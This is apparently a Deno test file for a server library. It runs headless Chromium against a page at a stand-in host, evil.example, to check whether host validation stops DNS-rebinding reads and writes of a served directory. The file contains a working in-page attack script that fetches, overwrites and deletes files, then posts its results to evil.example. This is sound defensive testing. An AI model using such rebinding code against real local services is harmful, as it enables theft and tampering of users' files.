/** A web page of another name in a real browser: it can neither read nor write a served directory. */
import { type App, reply, Server } from "@degu/degu";
import type { ServerOptions } from "@degu/degu/server";
import { FilesApp } from "@degu/degu/files";
import { makeBundle } from "../bundles.ts";
import { startCommand } from "@degu/testing/commands.ts";
import { createTempDir, fill, readTree } from "@degu/testing/directories.ts";
import { RunningProcess } from "@degu/testing/processes.ts";
import { withTimeout } from "@degu/testing/raw_peer.ts";
import { RecordingLogger, serve } from "@degu/testing/serving.ts";
import { findProgramObstacle, ignoreIf } from "@degu/testing/terminals.ts";
import { assert, assertEquals } from "@std/assert";

/** Runs a command with bash, because the permission of the tests doesn't list the browser. */
const THROUGH_BASH = ["bash", "-c", 'exec "$0" "$@"'];

const FLAGS = [
  ...["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"],
  ...["--disable-background-networking", "--no-proxy-server"],
  "--host-resolver-rules=MAP evil.example 127.0.0.1",
];

const needsChromium = ignoreIf(await findProgramObstacle("chromium"));

/** The requests of the page, and the file that each of them would write. */
const REQUESTS: readonly [method: string, uri: string, headers?: object][] = [
  ["GET", "/file.txt"],
  ["GET", "/"],
  ["HEAD", "/file.txt"],
  ["PUT", "/put.txt"],
  ["PUT", "/file.txt"],
  ["POST", "/?bundle=put"],
  ["POST", "/?bundle=put", { "content-type": "application/octet-stream" }],
  ["PATCH", "/file.txt"],
  ["OPTIONS", "/file.txt"],
  ["DELETE", "/other.txt"],
];

/** Runs in the page: makes the requests, and reports their results. */
async function attack(
  origins: string[],
  requests: typeof REQUESTS,
  bundle: number[],
  report: string,
) {
  await fetch("/rebind");
  // The name of the page leads to the other server as soon as that listens.
  while (await fetch("/").catch(() => null) === null) {
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  const results: Record<string, string[]> = {};
  for (const origin of origins) {
    for (const mode of ["cors", "no-cors"] as const) {
      for (const [method, uri, headers = {}] of requests) {
        const hasBody = method === "PUT" || method === "POST" || method === "PATCH";
        const body = hasBody ? new Uint8Array(bundle) : null;
        const init = { method, mode, headers: { ...headers }, body } satisfies RequestInit;
        let result: string;
        try {
          const response = await fetch(origin + uri, init);
          result = `${response.status} ${(await response.text()).includes("secret")}`;
        } catch {
          result = "refused";
        }
        (results[`${origin === "" ? "own" : "other"} ${mode}`] ??= []).push(result);
      }
    }
  }
  await fetch(report, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
}

/**
 * Opens a page of evil.example, lets this name lead to a server of files on the same port, and
 * returns the results of the page's requests to its own origin and to the server's, and the
 * directory after them.
 */
async function runAttack(hosts: ServerOptions["hosts"]) {
  await using dir = await createTempDir();
  await fill(dir.path, { "file.txt": "secret", "other.txt": "secret" });
  const reported = Promise.withResolvers<Record<string, string[]>>();
  await using reporter = serve(async (request) => {
    // The page of this test made the value.
    reported.resolve(await request.json() as Record<string, string[]>);
    return reply(204);
  }, { hosts: "any" });
  const [, reporterPort] = reporter.address as [string, number];
  await using stack = new AsyncDisposableStack();
  const serveFiles = async () => {
    await attacker.server.shutdown();
    const app = new FilesApp(dir.path, { write: true, list: true });
    const logger = new RecordingLogger();
    stack.use(await Server.start(["127.0.0.1", port], app, { logger, hosts }));
  };
  const page: App = ({ path }) => {
    if (path[0] !== "rebind") {
      const args = JSON.stringify([
        ["", `http://127.0.0.1:${port}`],
        REQUESTS,
        [...makeBundle([["bundled.txt", "evil"], ["file.txt", "evil"]])],
        `http://evil.example:${reporterPort}/`,
      ]);
      const script = `<script>(${attack})(...${args})</script>`;
      return [200, "OK", { "content-type": "text/html" }, script];
    }
    void serveFiles();
    return [200, "OK", {}, null];
  };
  const attacker = serve(page, { hosts: "any" });
  await using _attacker = attacker;
  const [, port] = attacker.address as [string, number];
  await using profile = await createTempDir();
  const url = `http://evil.example:${port}/`;
  const command = ["chromium", ...FLAGS, `--user-data-dir=${profile.path}`, url];
  await using _browser = new RunningProcess(
    startCommand([...THROUGH_BASH, ...command], { stdin: "null" }),
  );
  const results = await withTimeout(reported.promise, "the page reports its results", 120);
  return { results, tree: await readTree(dir.path) };
}

Deno.test({
  name:
    "a web page of another name reads and writes no served directory, in Chromium, also by DNS rebinding",
  ...needsChromium,
  async fn() {
    const { results, tree } = await runAttack(undefined);
    assertEquals(tree, { "file.txt": "secret", "other.txt": "secret" });
    assertEquals(results["own cors"], REQUESTS.map(() => "421 false"));
    assertEquals(results["other cors"], REQUESTS.map(() => "refused"));
    // These responses have no content for the page.
    for (const mode of ["own no-cors", "other no-cors"]) {
      for (const result of results[mode]!) assert(/^(?:0|421) false$|^refused$/.test(result), mode);
    }
  },
});

Deno.test({
  name: 'with hosts: "any", DNS rebinding lets the page of the test above read and write',
  ...needsChromium,
  async fn() {
    const { results, tree } = await runAttack("any");
    assertEquals(results["own cors"]?.slice(0, 2), ["200 true", "200 false"]);
    assertEquals([tree["file.txt"], tree["other.txt"]], ["evil", undefined]);
    assertEquals(results["other cors"], REQUESTS.map(() => "refused"));
  },
});
